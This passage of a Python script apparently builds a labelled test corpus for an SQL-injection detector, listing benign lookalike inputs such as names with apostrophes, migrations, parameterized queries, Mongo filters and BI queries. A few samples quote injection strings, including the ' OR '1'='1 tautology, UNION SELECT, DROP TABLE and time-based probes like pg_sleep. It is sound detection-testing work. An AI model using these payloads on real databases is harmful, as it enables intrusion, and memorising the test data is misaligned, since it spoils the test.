ok(MG, "migrate.apply", {"sql": "CREATE OR REPLACE FUNCTION touch_updated_at() RETURNS trigger AS $$\nBEGIN\n  NEW.updated_at = now();\n  RETURN NEW;\nEND;\n$$ LANGUAGE plpgsql;\nCREATE TRIGGER t_touch BEFORE UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION touch_updated_at();"})
ok(MG, "migrate.apply", {"sql": "CREATE VIEW active_users AS SELECT * FROM users WHERE deleted_at IS NULL;\nGRANT SELECT ON active_users TO reporting;"})
ok(MG, "migrate.apply", {"sql": "CREATE ROLE reporting NOLOGIN; GRANT USAGE ON SCHEMA public TO reporting; GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting;"})
ok(MG, "migrate.apply", {"sql": "ALTER TABLE products ADD COLUMN search tsvector GENERATED ALWAYS AS (to_tsvector('english', coalesce(name,'') || ' ' || coalesce(description,''))) STORED;"})
ok(MG, "migrate.apply", {"sql": "INSERT INTO countries (code, name) VALUES ('CI', 'Côte d''Ivoire'), ('GB', 'United Kingdom'), ('KP', 'Korea, Democratic People''s Republic of');"})
ok(MG, "migrate.apply", {"sql": "COPY staging_customers FROM '/data/import/customers.csv' WITH (FORMAT csv, HEADER true);"})
ok(MG, "migrate.apply", {"sql": "CREATE TABLE events_2024_06 PARTITION OF events FOR VALUES FROM ('2024-06-01') TO ('2024-07-01');"})
ok(MG, "migrate.apply", {"sql": "ALTER TABLE orders DROP COLUMN legacy_status; DROP TYPE IF EXISTS legacy_status_enum;"})
ok(MG, "knex.migrate", {"file": "20240601_add_tags.js", "code": "exports.up = knex => knex.schema.createTable('tags', t => { t.increments(); t.string('name').unique(); });"})
ok(MG, "migrate.apply", {"sql": "CREATE UNIQUE INDEX users_lower_email ON users (lower(email)) WHERE deleted_at IS NULL;"})
ok(MG, "migrate.apply", {"sql": "SET lock_timeout = '5s'; ALTER TABLE payments ADD COLUMN refunded_at timestamptz;"})
ok(MG, "migrate.apply", {"sql": "TRUNCATE TABLE staging_events; INSERT INTO staging_events SELECT * FROM raw_events WHERE day = '2024-06-01';"})
ok(MG, "migrate.apply", {"sql": "DELETE FROM feature_flags WHERE name = 'old_checkout'; INSERT INTO feature_flags (name, enabled) VALUES ('new_checkout', true);"})
ok(MG, "liquibase.update", {"changeset": {"id": "17", "author": "maria", "sql": "CREATE SEQUENCE invoice_no_seq START 1000; ALTER TABLE invoices ALTER COLUMN number SET DEFAULT nextval('invoice_no_seq');"}})
ok(MG, "migrate.apply", {"sql": "CREATE EXTENSION IF NOT EXISTS pg_trgm; CREATE INDEX products_name_trgm ON products USING gin (name gin_trgm_ops);"})
ok(MG, "migrate.apply", {"sql": "ALTER TABLE `orders` ADD INDEX `idx_status_created` (`status`, `created_at`), ALGORITHM=INPLACE, LOCK=NONE;"})
ok(MG, "migrate.apply", {"sql": "EXEC sp_rename 'dbo.Customer.Phone', 'PhoneNumber', 'COLUMN';"})
ok(MG, "migrate.apply", {"sql": "IF NOT EXISTS (SELECT 1 FROM sys.indexes WHERE name = 'IX_Orders_Date') CREATE INDEX IX_Orders_Date ON dbo.Orders(OrderDate);"})
ok(MG, "migrate.apply", {"sql": "SELECT count(*) FROM users; ALTER TABLE users ADD COLUMN locale text DEFAULT 'en';"})
ok(MG, "migrate.apply", {"sql": "PRAGMA foreign_keys=off; CREATE TABLE new_t (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO new_t SELECT id, name FROM t; DROP TABLE t; ALTER TABLE new_t RENAME TO t; PRAGMA foreign_keys=on;"})
ok(MG, "migrate.apply", {"sql": "COMMENT ON COLUMN users.password_hash IS 'argon2id; never select this in reports';"})

# --- ORM / parameterized ------------------------------------------------------
OR = "parameterized-query"
ok(OR, "db.query", {"query": "SELECT * FROM users WHERE email = $1 AND tenant_id = $2", "params": ["ann@example.com", 7]})
ok(OR, "db.query", {"sql": "SELECT id, name FROM products WHERE category_id = ? AND price BETWEEN ? AND ? ORDER BY price", "args": [3, 10, 50]})
ok(OR, "db.query", {"sql": "UPDATE users SET last_login = :now WHERE id = :id", "params": {"now": "2024-06-01T10:00:00Z", "id": 42}})
ok(OR, "db.query", {"sql": "INSERT INTO comments (post_id, author, body) VALUES (%s, %s, %s)", "params": [12, "Seán O'Connor", "Great post -- thanks! Can't wait for part 2; really."]})
ok(OR, "db.query", {"sql": "SELECT * FROM orders WHERE id = ANY($1::int[])", "params": [[1, 2, 3]]})
ok(OR, "db.query", {"sql": "DELETE FROM sessions WHERE user_id = ? AND id <> ?", "params": [9, "s_abc"]})
ok(OR, "orm.filter", {"model": "Customer", "where": {"last_name": "D'Angelo", "city": "Rome"}, "order_by": "-created_at"})
ok(OR, "orm.filter", {"model": "Order", "filter": "status = 'shipped' AND total > 100", "sort": "created_at desc"})
ok(OR, "db.query", {"sql": "SELECT * FROM articles WHERE to_tsvector('english', body) @@ plainto_tsquery('english', $1)", "params": ["rock 'n' roll history"]})
ok(OR, "sqlalchemy.execute", {"statement": "SELECT * FROM users WHERE name LIKE :pattern ESCAPE '\\'", "params": {"pattern": "%o'brien%"}})
ok(OR, "db.query", {"sql": "INSERT INTO notes (title, body) VALUES (?, ?)", "params": ["SQL tips", "Never build queries like \"SELECT * FROM t WHERE id = \" + id; use ? placeholders."]})
ok(OR, "prisma.query", {"model": "user", "action": "findMany", "args": {"where": {"OR": [{"email": {"contains": "example.com"}}, {"name": {"startsWith": "O'"}}]}, "take": 20}})
ok(OR, "db.query", {"sql": "SELECT * FROM products WHERE name = @name AND region = @region", "params": {"@name": "Kids' Bikes", "@region": "US"}})
ok(OR, "db.query", {"sql": "CALL refresh_stats(?)", "params": ["daily"]})
ok(OR, "db.query", {"sql": "SELECT id FROM t WHERE ($1::text IS NULL OR name = $1) AND ($2::int IS NULL OR age >= $2)", "params": [None, 30]})
ok(OR, "gorm.where", {"query": "name = ? AND age >= ?", "args": ["Jinzhu", 20]})
ok(OR, "active_record.where", {"conditions": ["title LIKE ? OR body LIKE ?", "%1=1%", "%1=1%"]})
ok(OR, "db.query", {"sql": "SELECT * FROM t WHERE tags && ARRAY[$1, $2]::text[]", "params": ["union", "select"]})
ok(OR, "db.query", {"sql": "UPDATE products SET name = ? WHERE id = ?", "params": ["Drop Table Lamp (oak)", 881]})
ok(OR, "db.query", {"sql": "INSERT INTO reviews (product_id, text) VALUES ($1, $2)", "params": [5, "It's OK -- not great, not terrible; 3/5 or 4/5 = fine"]})
ok(OR, "sequelize.findAll", {"model": "Post", "where": {"title": {"like": "%it's%"}, "views": {"gte": 100}}, "order": [["createdAt", "DESC"]]})

# --- search boxes, names, free text --------------------------------------------
SB = "search-and-names"
names = ["O'Brien", "D'Arcy", "Mc'Donald's", "Ngũgĩ wa Thiong'o", "L'Oréal", "Jean-Luc O'Neill", "Shaquille O'Neal", "Dell'Acqua"]
for i, n in enumerate(names):
    ok(SB, ["crm.search", "hr.lookup", "users.find", "contacts.get"][i % 4], [{"last_name": n}, {"name": n}, {"q": n}, {"customer": {"full_name": n, "id": str(1000 + i)}}][i % 4])
searches = [
    ("kb.search", {"q": "Rock 'n' roll hall of fame"}),
    ("kb.search", {"query": "don't or won't -- which is correct?"}),
    ("shop.search", {"search": "kids' shoes size 1 or 2"}),
    ("kb.search", {"q": "how to union select results from two tables in SQL"}),
    ("kb.search", {"q": "what does ' OR 1=1 mean"}),
    ("shop.search", {"term": "50% off; free shipping"}),
    ("kb.search", {"query": "sleep schedule for toddlers"}),
    ("kb.search", {"q": "\"drop table\" lamp oak"}),
    ("shop.search", {"search": "tv 55\" or 65\""}),
    ("kb.search", {"q": "C# vs C++ -- performance"}),
    ("music.search", {"artist": "Guns N' Roses", "album": "Appetite for Destruction"}),
    ("kb.search", {"q": "it's 1 = 1 in boolean algebra"}),
    ("kb.search", {"q": "select count from users where status is active"}),
    ("books.search", {"title": "Harry Potter and the Philosopher's Stone"}),
    ("movies.search", {"title": "Ocean's Eleven (2001) -- remastered"}),
    ("kb.search", {"q": "postgres pg_sleep function docs"}),
    ("kb.search", {"q": "mysql benchmark() function usage"}),
    ("kb.search", {"q": "what is xp_cmdshell and why disable it"}),
    ("recipes.search", {"q": "fish 'n' chips; mushy peas"}),
    ("kb.search", {"q": "order by date desc not working"}),
    ("shop.search", {"search": "1/2\" drill bit or 3/8\""}),
    ("maps.search", {"place": "Martha's Vineyard"}),
    ("kb.search", {"q": "error: near \"'\": syntax error"}),
    ("tickets.search", {"subject": "Can't log in -- password reset loop"}),
    ("kb.search", {"q": "grep -- '--' file"}),
    ("kb.search", {"q": "why does my query return 0 rows when using OR"}),
]
for tool, p in searches:
    ok(SB, tool, p)
ok(SB, "email.send", {"to": "ops@example.com", "subject": "Re: O'Brien account -- union dues", "body": "Hi Seán,\nThe union selected a new rep; please update the members table. I'd drop the old rows only after the audit.\n\nThanks"})
ok(SB, "tickets.create", {"title": "SQL error in report", "description": "The report fails with: ERROR: syntax error at or near \"'\" LINE 1: SELECT * FROM t WHERE name = 'O'Brien'. We should use parameters."})
ok(SB, "chat.post", {"message": "Heads up: the 'drop table' alert fired on staging, it was me running migrations; nothing to do."})
ok(SB, "kb.write", {"title": "Preventing SQL injection", "content": "# Preventing SQL injection\n\nAn input like `' OR '1'='1` turns a query into a tautology.\n\n```sql\nSELECT * FROM users WHERE name = '' OR '1'='1';\n```\n\nUse bound parameters instead. Attackers also try `UNION SELECT` and `; DROP TABLE`."})
ok(SB, "docs.write", {"path": "docs/security.md", "content": "Time-based probes such as SLEEP(5) or pg_sleep(5) and WAITFOR DELAY '0:0:5' are blocked by the WAF.\nSee OWASP WSTG-INPV-05 for details.\nOur ORM escapes quotes.\nReview quarterly.\nOwner: security team."})
ok(SB, "users.update", {"id": "81", "display_name": "Tom's Diner", "bio": "Open 24h; pancakes & waffles -- best in town"})
ok(SB, "users.update", {"username": "o_brien-1", "password": "P@ss'w0rd--;"})
ok(SB, "forms.submit", {"fields": {"company": "Smith & Sons, Ltd.", "notes": "Deliver to 'Dock 5' -- not the front desk", "po": "PO-2024-0042"}})
ok(SB, "geo.lookup", {"city": "'s-Hertogenbosch"})
ok(SB, "translate", {"text": "L'homme qu'il a vu n'est pas là -- c'est ça", "to": "en"})
ok(SB, "calc.eval", {"expression": "1 = 1 or 2 > 3"})
ok(SB, "sheets.update", {"range": "A1:B2", "values": [["=IF(A2=\"\",\"-\",A2)", "=SUM(B2:B10)"], ["Q1 or Q2", "1=1"]]})

# --- MongoDB / Elasticsearch ----------------------------------------------------
MO = "mongo-elastic"
ok(MO, "mongo.find", {"collection": "orders", "filter": {"status": {"$in": ["paid", "shipped"]}, "total": {"$gte": 100}}, "sort": {"created_at": -1}, "limit": 50})
ok(MO, "mongo.find", {"collection": "users", "filter": {"deleted_at": {"$exists": False}, "role": {"$ne": "guest"}}})
ok(MO, "mongo.aggregate", {"collection": "events", "pipeline": [{"$match": {"ts": {"$gte": "2024-06-01", "$lt": "2024-07-01"}}}, {"$group": {"_id": "$type", "n": {"$sum": 1}}}, {"$sort": {"n": -1}}]})
ok(MO, "mongo.find", {"collection": "products", "filter": {"name": {"$regex": "^rock", "$options": "i"}}})
ok(MO, "mongo.find", {"collection": "tickets", "filter": {"$or": [{"priority": {"$gt": 3}}, {"tags": {"$in": ["urgent"]}}]}})
ok(MO, "mongo.update", {"collection": "users", "filter": {"_id": "665f1c"}, "update": {"$set": {"name": "Seán O'Brien"}, "$inc": {"logins": 1}}})
ok(MO, "mongo.aggregate", {"collection": "sales", "pipeline": [{"$match": {"region": {"$nin": ["test", "internal"]}}}, {"$project": {"month": {"$month": "$date"}, "amount": 1}}, {"$group": {"_id": "$month", "total": {"$sum": "$amount"}}}]})
ok(MO, "function_call", call("query_mongo", {"collection": "orders", "filter": {"amount": {"$gt": 0}, "currency": {"$in": ["EUR", "USD"]}}}))
ok(MO, "mongo.find", {"collection": "logs", "filter": {"level": {"$in": ["error", "fatal"]}, "msg": {"$regex": "timeout|refused"}}, "projection": {"msg": 1, "ts": 1}})
ok(MO, "mongo.count", {"collection": "users", "query": "{\"age\": {\"$gte\": 18}, \"country\": {\"$in\": [\"FR\", \"BE\"]}}"})
ok(MO, "mongo.find", {"collection": "accounts", "filter": {"email": {"$ne": ""}, "verified": True}})
ok(MO, "mongo.find", {"collection": "users", "filter": {"username": "ana.silva", "status": {"$in": ["active", "locked"]}}})
ok(MO, "es.search", {"index": "logs-*", "body": {"query": {"bool": {"must": [{"match": {"message": "connection refused"}}], "filter": [{"range": {"@timestamp": {"gte": "now-1h"}}}]}}}})
ok(MO, "es.search", {"index": "products", "body": {"query": {"query_string": {"query": "title:(rock AND roll) OR artist:\"Guns N' Roses\""}}, "size": 20}})
ok(MO, "es.search", {"index": "orders", "body": {"query": {"bool": {"should": [{"term": {"status": "paid"}}, {"term": {"status": "shipped"}}], "minimum_should_match": 1}}, "aggs": {"by_day": {"date_histogram": {"field": "ts", "calendar_interval": "day"}}}}})
ok(MO, "es.sql", {"query": "SELECT status, COUNT(*) FROM orders WHERE ts > NOW() - INTERVAL 1 DAY GROUP BY status"})
ok(MO, "strapi.get", {"url": "https://cms.example.com/api/articles?filters[title][$containsi]=rock&filters[views][$gte]=100&sort=publishedAt:desc"})
ok(MO, "strapi.get", {"url": "https://cms.example.com/api/products?filters[price][$lt]=50&filters[category][$eq]=kids&filters[stock][$ne]=0"})
ok(MO, "mongo.aggregate", {"collection": "users", "pipeline": [{"$lookup": {"from": "orders", "localField": "_id", "foreignField": "user_id", "as": "orders"}}, {"$match": {"orders.0": {"$exists": True}}}]})
ok(MO, "mongo.find", {"collection": "sessions", "filter": {"expires": {"$lt": "2024-06-01T00:00:00Z"}}})
ok(MO, "mongo.find", {"collection": "docs", "filter": {"$text": {"$search": "\"rock 'n' roll\" -metal"}}})
ok(MO, "function_call", call("search_users", {"filter": {"name": {"$regex": "^o'b", "$options": "i"}, "age": {"$gte": 21, "$lte": 65}}}))
ok(MO, "mongo.find", {"collection": "metrics", "filter": {"host": {"$in": ["web-1", "web-2"]}, "value": {"$gt": 0.9}}})
ok(MO, "es.search", {"index": "kb", "q": "title:\"don't panic\" AND tags:(sql OR nosql)"})

# --- BI dashboards ---------------------------------------------------------------
BI = "bi-dashboard"
ok(BI, "metabase.card.create", {"name": "Revenue by plan", "dataset_query": {"type": "native", "native": {"query": "SELECT plan, SUM(mrr) FROM subscriptions WHERE {{status}} [[AND created_at >= {{start}}]] GROUP BY plan", "template-tags": {"status": {"type": "text"}}}}})
ok(BI, "looker.run", {"model": "ecommerce", "view": "orders", "fields": ["orders.count", "users.state"], "filters": {"orders.created_date": "90 days", "users.state": "-Alaska,-Hawaii"}})
ok(BI, "superset.chart", {"datasource": "sales", "params": {"adhoc_filters": [{"clause": "WHERE", "expressionType": "SQL", "sqlExpression": "region IN ('EU', 'US') OR channel = 'partner'"}], "metrics": ["sum__amount"]}})
ok(BI, "grafana.panel", {"title": "Errors per minute", "targets": [{"rawSql": "SELECT $__timeGroupAlias(ts, '1m'), count(*) AS errors FROM logs WHERE $__timeFilter(ts) AND level = 'error' GROUP BY 1 ORDER BY 1", "format": "time_series"}]})
ok(BI, "tableau.filter", {"field": "Customer Name", "values": ["O'Reilly Media", "Ben & Jerry's", "Macy's"]})
ok(BI, "dashboards.update", {"widget": "top_products", "where": "category = 'Kids'' toys' AND qty > 0", "sort": "revenue DESC, name ASC"})
ok(BI, "metabase.query", {"query": "-- TODO: exclude test accounts\nSELECT date_trunc('day', created_at) AS day, count(*) FROM signups WHERE email NOT LIKE '%@test.local' GROUP BY 1 UNION ALL SELECT NULL, count(*) FROM signups"})
ok(BI, "grafana.panel", {"title": "Slow queries", "targets": [{"rawSql": "SELECT query, mean_exec_time FROM pg_stat_statements WHERE query ILIKE '%UNION%SELECT%' ORDER BY 2 DESC LIMIT 10"}]})
ok(BI, "redash.query", {"name": "Weekly actives", "query": "WITH w AS (SELECT user_id, date_trunc('week', ts) wk FROM events GROUP BY 1, 2) SELECT wk, COUNT(*) FROM w GROUP BY wk ORDER BY wk; -- chart: line"})
ok(BI, "powerbi.dax", {"measure": "Total Sales = CALCULATE(SUM(Sales[Amount]), FILTER(Sales, Sales[Region] = \"EU\" || Sales[Region] = \"UK\"))"})
ok(BI, "looker.run", {"model": "support", "view": "tickets", "filters": {"tickets.subject": "%can't%,%won't%", "tickets.priority": ">=3"}})
ok(BI, "dashboards.filter", {"filter": "country = 'CI' OR country = 'SN'", "orderby": "population DESC"})
ok(BI, "dashboards.filter", {"filter": "1=1", "sort": "name"})
ok(BI, "metabase.card.create", {"name": "Stale carts", "dataset_query": {"type": "native", "native": {"query": "SELECT id, updated_at FROM carts WHERE updated_at < now() - interval '7 days' AND (status = 'open' OR status IS NULL)"}}})
ok(BI, "mode.report", {"sql": "SELECT cohort, period, retained * 1.0 / size AS pct FROM retention /* cohort table built nightly */ WHERE cohort >= '2024-01-01'"})
ok(BI, "superset.sqllab", {"sql": "SELECT name, COUNT(*) FROM birth_names WHERE state IN ('CA', 'NY') OR gender = 'girl' GROUP BY name ORDER BY 2 DESC LIMIT 25"})
ok(BI, "grafana.panel", {"targets": [{"rawSql": "SELECT time_bucket('5 minutes', ts) AS t, avg(cpu) FROM metrics WHERE host = '$host' GROUP BY t ORDER BY t"}]})
ok(BI, "report.schedule", {"name": "Orders -- weekly", "cron": "0 8 * * 1", "query": "SELECT * FROM weekly_orders_v; -- read-only view"})
ok(BI, "kb.search", {"q": "dashboard 'Sales (EU)' or 'Sales (UK)'"})
ok(BI, "dashboards.filter", {"value": "Q3' 24 revenue"})

# --- write files -----------------------------------------------------------------
def write(path, rows, prefix, label):
    with open(path, "w") as f:
        for i, r in enumerate(rows, 1):
            line = {"id": f"{prefix}{i:03d}", "label": label}
            line["family"] = "sql_injection" if label == "attack" else r.get("family")
            line["technique"] = r["technique"]
            line["source"] = r["source"]
            line["tool"] = r["tool"]
            line["payload"] = r["payload"]
            f.write(json.dumps(line, ensure_ascii=False) + "\n")


write("tests/corpus/payloads/sql.jsonl", attacks, "sql-a-", "attack")
write("tests/corpus/payloads/legit-sql.jsonl", legit, "sql-l-", "legit")
print(len(attacks), "attacks;", len(legit), "legit")
